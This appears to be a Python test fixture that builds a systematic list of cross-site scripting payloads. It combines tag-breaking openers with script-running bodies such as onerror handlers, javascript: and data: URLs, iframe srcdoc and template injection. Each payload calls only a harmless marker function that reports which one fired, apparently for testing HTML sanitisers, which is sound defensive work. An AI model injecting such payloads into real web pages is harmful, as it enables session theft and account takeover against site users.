"""Markup that runs a script where it is taken for markup: `__ran(n)` tells which did. Made, not collected."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_OPENERS = ("", '">', "'>", "</title>", "</textarea>", "-->", "</q></p>", "</mark>", '" autofocus tabindex=1 x="', "</style>", "</noscript>", "<svg>", "<math><mtext>", "]]>")  # fmt: skip
_BODIES = (
    "<img src=x: onerror={0}>",
    "<img src=x: onerror='{0}'//",
    "<svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><script>{0}</script></svg>",
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script src=data:text/javascript,{0}></script>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src=javascript:parent.{0}></iframe>",
    "<details open ontoggle={0}>",
    "<body onload={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x: onerror={0}>",
    "<input autofocus onfocus={0}>",
    "<object data=x: onerror={0}></object>",
    "<style onload={0}></style>",
    "<link rel=stylesheet href=data:text/css, onload={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<x tabindex=1 onfocus={0} autofocus>",
    "<img src onerror=&#95;&#95;ran({1})>",
    "<img/src='x:'/onerror={0}>",
    "<a href=javascript:{0} id=c>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<noscript><p title='</noscript><img src=x: onerror={0}>'>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
    "<table background=javascript:{0}>",
    "<template shadowrootmode=open><img src=x: onerror={0}></template>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "＜script＞{0}＜/script＞",
    "\u202e<img src=x: onerror={0}>",
)
_IN_QUOTES = ('" onmouseover={0} onfocus={0} autofocus tabindex=1 x="', "' onfocus={0} autofocus tabindex=1 x='", "javascript:{0}", "JaVaScRiPt:{0}//http", "data:text/html,<script>{0}</script>", "java\tscript:{0}", "&#106;avascript:{0}", "vbscript:{0}")  # fmt: skip


def payloads() -> Iterator[str]:
    """Each with its own number in its call, from 0 on."""
    kinds = [opener + body for opener, body in product(_OPENERS, _BODIES)] + list(_IN_QUOTES)
    for number, kind in enumerate(kinds):
        yield kind.format(f"__ran({number})", number)


ADDRESSES = ("javascript:__ran(9001)", "JAVASCRIPT:__ran(9002)", "data:text/html,<script>parent.__ran(9003)</script>", "http:javascript:__ran(9004)", "https://a.example/\"onfocus=__ran(9005) autofocus x=\"", "vbscript:__ran(9006)")  # fmt: skip
